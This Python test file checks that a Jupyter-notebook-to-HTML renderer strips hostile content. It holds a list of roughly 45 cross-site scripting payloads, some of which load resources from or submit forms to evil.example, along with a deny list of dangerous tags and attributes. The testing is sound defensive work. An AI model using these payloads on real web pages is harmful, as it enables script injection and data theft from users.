from __future__ import annotations

import base64
import json
import re
import struct
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.notebooks.html import notebook_html

PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 4, 4) + b"\0" * 20
).decode()

ALLOWED_SCHEMES = ("http://", "https://", "mailto:", "#", "../")


class Page(HTMLParser):
    """The elements of a page and the text a reader sees."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def all(self, tag):
        return [attributes for name, attributes in self.elements if name == tag]


def code(source="", outputs=(), **more):
    return {"cell_type": "code", "source": source, "outputs": list(outputs), **more}


def shown(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


def rich(mime, content):
    return {"output_type": "display_data", "data": {mime: content}, "metadata": {}}


def page_of(*cells, **options):
    options.setdefault("title", "a.ipynb")
    notebook = {"cells": list(cells), "metadata": {"language_info": {"name": "python"}}}
    return Page(notebook_html(notebook, **options))


def body_of(page):
    """Return the elements inside the page's body."""
    return page.elements[[tag for tag, _ in page.elements].index("body") :]


def assert_safe(page):
    for tag, attributes in body_of(page):
        assert (
            tag
            not in (
                "script style iframe object embed link meta base form input button svg math template "
                "noscript xmp plaintext title frame frameset applet audio video source canvas"
            ).split()
        )
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("srcdoc", "srcset", "action", "formaction", "background", "ping")
            if name == "href":
                assert value.startswith(ALLOWED_SCHEMES), value
            if name == "src":
                assert re.fullmatch(
                    r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[\w+/=]+", value
                )
            if name == "style":
                assert not re.search(r"url|@|\\|expression|position|image", value)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png' srcset='http://evil.example/2x.png 2x'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='  javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' ping='http://evil.example'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='http://evil.example/x.svg#a'/><image href='http://evil.example/x.png'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,x'></object><embed src='//evil.example'>",
    "<style>@import 'http://evil.example/x.css'; body { background: url(//evil.example) }</style>",
    "<link rel=stylesheet href='http://evil.example/x.css'><link rel=prefetch href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example/'>",
    "<form action='http://evil.example'><input name=q><button>Log in</button></form>",
    "<div style='background:url(http://evil.example/x.png)'>x</div>",
    "<div style='background-color:\\75rl(http://evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;color:red'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext><script>",
    "</main></body></html><script>alert(1)</script>",
    "</pre></div></section><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<video src='http://evil.example' autoplay onplay=alert(1)></video><audio src=x onerror=alert(1)>",
    "<table background='http://evil.example/x.png'><td background='http://evil.example'>x</td></table>",
    "<a name='x' id='cell-1' class='jump' href='#cell-1'>clobber</a>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <javascript:alert(1)>",
    "![x](attachment:a.svg) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "$</code><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "\x00\ud800<script>\x1b[31malert(1)</script>",
]  # fmt: skip

PLACES = {
    "markdown cell": lambda text: {"cell_type": "markdown", "source": text},
    "code cell": lambda text: code(text),
    "raw cell": lambda text: {"cell_type": "raw", "source": text},
    "unknown cell": lambda text: {"cell_type": text, "source": text, "metadata": text},
    "html": lambda text: code(outputs=[rich("text/html", text)]),
    "html in lines": lambda text: code(outputs=[rich("text/html", [text, text])]),
    "markdown": lambda text: code(outputs=[rich("text/markdown", text)]),
    "svg": lambda text: code(outputs=[rich("image/svg+xml", text)]),
    "png": lambda text: code(outputs=[rich("image/png", text)]),
    "latex": lambda text: code(outputs=[rich("text/latex", text)]),
    "json": lambda text: code(outputs=[rich("application/json", {text: [text]})]),
    "javascript": lambda text: code(outputs=[rich("application/javascript", text)]),
    "mime key": lambda text: code(outputs=[rich(text, text)]),
    "image size": lambda text: code(
        outputs=[
            {
                "output_type": "display_data",
                "data": {"image/png": PNG, "text/plain": text},
                "metadata": {"image/png": {"width": text, "height": 5}},
            }
        ]
    ),
    "plain": lambda text: code(outputs=[rich("text/plain", text)]),
    "stream": lambda text: code(outputs=[{"output_type": "stream", "name": text, "text": text}]),
    "output type": lambda text: code(outputs=[{"output_type": text, "data": {"text/html": text}}]),
    "traceback": lambda text: code(outputs=[{"output_type": "error", "traceback": [text]}]),
    "error": lambda text: code(outputs=[{"output_type": "error", "ename": text, "evalue": text}]),
    "tags": lambda text: code(metadata={"tags": [text], text: text}),
    "attachment": lambda text: {
        "cell_type": "markdown",
        "source": "![x](attachment:a.png)",
        "attachments": {"a.png": {"image/png": text, text: text}},
    },
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_hostile_notebook_can_act(attack, place):
    page = page_of(PLACES[place](attack))

    assert_safe(page)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_its_metadata_can_act(attack):
    notebook = {
        "cells": [],
        "metadata": {
            "title": attack,
            "authors": [{"name": attack}],
            "kernelspec": {"display_name": attack, "name": attack, "language": attack},
            "language_info": {"name": attack},
        },
    }

    page = Page(notebook_html(notebook, title=attack, home="../index.html"))

    assert_safe(page)
    assert len(page.all("h1")) == 1


def test_the_page_forbids_what_it_does_not_need():
    metas = page_of().all("meta")

    policies = [meta["content"] for meta in metas if meta.get("http-equiv")]
    assert policies == [
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; "
        "base-uri 'none'; form-action 'none'"
    ]
    assert {"name": "referrer", "content": "no-referrer"} in metas


def test_the_style_sheet_asks_for_nothing():
    html = notebook_html({"cells": []}, title="x")
    [sheet] = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)

    assert not re.search(r"url\(|@import|@font-face|<", sheet)


def test_cells_have_anchors_times_and_a_way_to_the_one_that_failed():
    page = page_of(
        {"cell_type": "markdown", "source": "# Title"},
        code("1 / 0"),
        failing_cell=2,
        seconds={2: 1.25},
        home="../index.html",
    )

    sections = page.all("section")
    assert [section["id"] for section in sections] == ["cell-1", "cell-2"]
    assert "failing" in sections[1]["class"]
    assert [link["href"] for link in page.all("a")] == ["../index.html", "#cell-2"]
    assert "1.2 s" in page.text


def test_added_parameters_are_not_counted():
    cells = (
        code("n = 1", metadata={"tags": ["parameters"]}),
        code("n = 2", metadata={"tags": ["injected-parameters"]}),
        code("n"),
    )

    counted = page_of(*cells, parameters_added=True).all("section")
    as_written = page_of(*cells).all("section")

    assert [section.get("id") for section in counted] == ["cell-1", None, "cell-2"]
    assert [section.get("id") for section in as_written] == ["cell-1", "cell-2", "cell-3"]


def test_of_several_forms_the_richest_safe_one_is_shown():
    html = "<table><tr><td>1</td></tr></table>"
    both = {"image/png": PNG, "text/html": html, "text/plain": "<Figure>"}
    picture = page_of(code(outputs=[shown(**both)]))
    table = page_of(code(outputs=[shown(**{"text/html": html, "text/plain": "text"})]))

    assert [image["alt"] for image in picture.all("img")] == ["<Figure>"]
    assert picture.all("table") == []
    assert len(table.all("table")) == 1


def test_a_plot_that_needs_scripts_falls_back_to_its_text():
    html = "<div id='p'></div><script>Plotly.newPlot('p')</script>"

    page = page_of(code(outputs=[shown(**{"text/html": html, "text/plain": "Figure({})"})]))

    assert "Figure({})" in page.text


def test_a_widget_is_shown_as_its_text():
    data = {
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "text/plain": "IntSlider()",
    }

    assert "IntSlider()" in page_of(code(outputs=[shown(**data)])).text


def test_an_output_in_unknown_forms_only_says_so():
    page = page_of(code(outputs=[shown(**{"application/x-strange": "?"})]))

    assert "application/x-strange" in page.text


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("!!!!", "not valid base64"),
        (base64.b64encode(b"<svg onload=alert(1)>").decode(), "not an image/png"),
        ("A" * 20_000_000, "15.0 MB"),
        (
            base64.b64encode(
                b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 50_000, 50_000)
            ).decode(),
            "50000 x 50000 pixels",
        ),
    ],
)
def test_an_unfit_image_says_why_it_is_not_shown(content, reason):
    page = page_of(code(outputs=[rich("image/png", content)]))

    assert page.all("img") == []
    assert f"Image not shown: {reason}" in page.text


def test_a_drawing_is_an_image_and_not_part_of_the_page():
    page = page_of(
        code(outputs=[rich("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'/>")])
    )

    [image] = page.all("img")
    assert image["src"].startswith("data:image/svg+xml;base64,")


def test_an_attachment_of_a_cell_is_shown_in_it():
    cell = {
        "cell_type": "markdown",
        "source": "![plan](attachment:the%20plan.png)",
        "attachments": {"the plan.png": {"image/png": PNG}},
    }

    [image] = page_of(cell).all("img")
    assert image["src"] == f"data:image/png;base64,{PNG}"


def test_an_image_from_the_web_is_only_named():
    page = page_of({"cell_type": "markdown", "source": "![badge](https://img.example/b.svg)"})

    assert page.all("img") == [{"alt": "badge"}]


def test_links_within_a_notebook_lead_to_its_headings():
    page = page_of({"cell_type": "markdown", "source": "[go](#The-end)\n\n# The end"})

    assert page.all("a")[0]["href"] == "#user-content-The-end"
    assert page.all("h2") == [{"id": "user-content-The-end"}]


def test_formulas_keep_their_tex():
    page = page_of({"cell_type": "markdown", "source": "$a_1 * b_2 * c$ and costs $5 or $6"})

    assert "a_1 * b_2 * c" in page.text
    assert "$5 or $6" in page.text


def test_source_is_coloured_in_its_language():
    assert {"class": "k"} in page_of(code("return 1")).all("span")


def test_terminal_colours_are_kept_and_other_escapes_dropped():
    text = "\x1b[1;31mred\x1b[0m\x1b[2J\x1b]0;title\x07 \x1b[38;2;1;2;3mrgb\x1b[48;5;196mbg\x1b[m"

    page = page_of(code(outputs=[{"output_type": "stream", "name": "stdout", "text": text}]))

    spans = page.all("span")
    assert {"class": "t-bold t-fg-red"} in spans
    assert {"class": "t-fg-rgb", "style": "color:#010203"} in spans
    assert {"class": "t-fg-rgb t-bg-rgb", "style": "color:#010203;background:#ff0000"} in spans
    assert "\x1b" not in page.text
    assert "title" not in page.text.split("</title>")[0].replace("a.ipynb", "")


def test_a_progress_bar_is_shown_as_it_ended():
    outputs = [
        {"output_type": "stream", "name": "stderr", "text": f"\r{percent}%"}
        for percent in (1, 50, 100)
    ]

    text = page_of(code(outputs=outputs)).text

    assert "100%" in text
    assert "50%" not in text


def test_messages_of_one_stream_are_one_block():
    outputs = [{"output_type": "stream", "name": "stdout", "text": f"{n}\n"} for n in range(30)]

    page = page_of(code(outputs=outputs))

    assert len([pre for pre in page.all("pre") if pre.get("class") == "stdout"]) == 1


def test_a_long_output_is_folded_and_a_flood_is_cut_with_a_mark():
    lines = "".join(f"line {number}\n" for number in range(200_000))

    page = page_of(code(outputs=[{"output_type": "stream", "name": "stdout", "text": lines}]))

    assert "200,000 lines" in page.text
    assert f"{len(lines) - 200_000:,} characters left out" in page.text
    assert "line 199999" in page.text
    assert len(page.text) < 250_000


def test_very_many_outputs_are_cut_with_a_mark():
    page = page_of(code(outputs=[rich("text/plain", str(number)) for number in range(1000)]))

    assert "More outputs are in the executed notebook file." in page.text


def test_scrolling_parts_can_be_reached_with_the_keyboard():
    page = page_of(code("x", outputs=[rich("text/html", "<table></table>x")]))

    assert all(pre.get("tabindex") == "0" for pre in page.all("pre"))


@pytest.mark.parametrize(
    "notebook",
    [
        {},
        {"cells": None},
        {"cells": [None, 3, "x", [], {}]},
        {"cells": [{"cell_type": "code", "source": 3, "outputs": {"a": 1}}], "metadata": []},
        {"cells": [{"cell_type": "code", "outputs": [None, {"output_type": "stream", "text": 1}]}]},
        {"cells": [{"cell_type": "code", "outputs": [{"output_type": "error"}]}]},
        {"cells": [{"cell_type": "code", "outputs": [{"data": {"text/html": {"a": 1}}}]}]},
        {"cells": [{"cell_type": "markdown", "source": None, "attachments": [1]}]},
        {"cells": [], "metadata": {"kernelspec": {"display_name": 3}, "language_info": "x"}},
    ],
)
def test_what_is_no_proper_notebook_still_makes_a_page(notebook):
    page = Page(notebook_html(notebook, title="x"))

    assert len(page.all("main")) == 1


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3)
    ),
    max_leaves=8,
)


@given(
    st.fixed_dictionaries(
        {"cell_type": st.sampled_from(["code", "markdown", "raw"]), "source": JSON},
        optional={
            "metadata": JSON,
            "attachments": JSON,
            "outputs": st.lists(
                st.fixed_dictionaries(
                    {"output_type": st.sampled_from(["stream", "error", "display_data"])},
                    optional={
                        "text": JSON,
                        "name": JSON,
                        "traceback": JSON,
                        "metadata": JSON,
                        "data": st.dictionaries(
                            st.sampled_from(
                                ["text/html", "image/png", "text/plain", "image/svg+xml"]
                            ),
                            JSON,
                        ),
                    },
                ),
                max_size=3,
            ),
        },
    )
)
def test_no_cell_whatever_it_holds_breaks_the_page(cell):
    html = notebook_html({"cells": [cell]}, title="x", failing_cell=1)

    html.encode("utf-8")
    assert_safe(Page(html))


@pytest.mark.parametrize(
    "text", ["[" * 60_000, "*a " * 50_000, "`" * 90_000, "> " * 20_000, "<b>" * 30_000]
)
def test_markdown_made_to_be_slow_is_rendered(text):
    page = page_of({"cell_type": "markdown", "source": text})

    assert_safe(page)


def test_a_page_is_made_from_json_as_it_is_read():
    notebook = json.loads(
        '{"cells": [{"cell_type": "code", "source": ["a\\ud800"], "outputs": []}]}'
    )

    assert "a\ufffd" in Page(notebook_html(notebook, title="\udcff.ipynb")).text
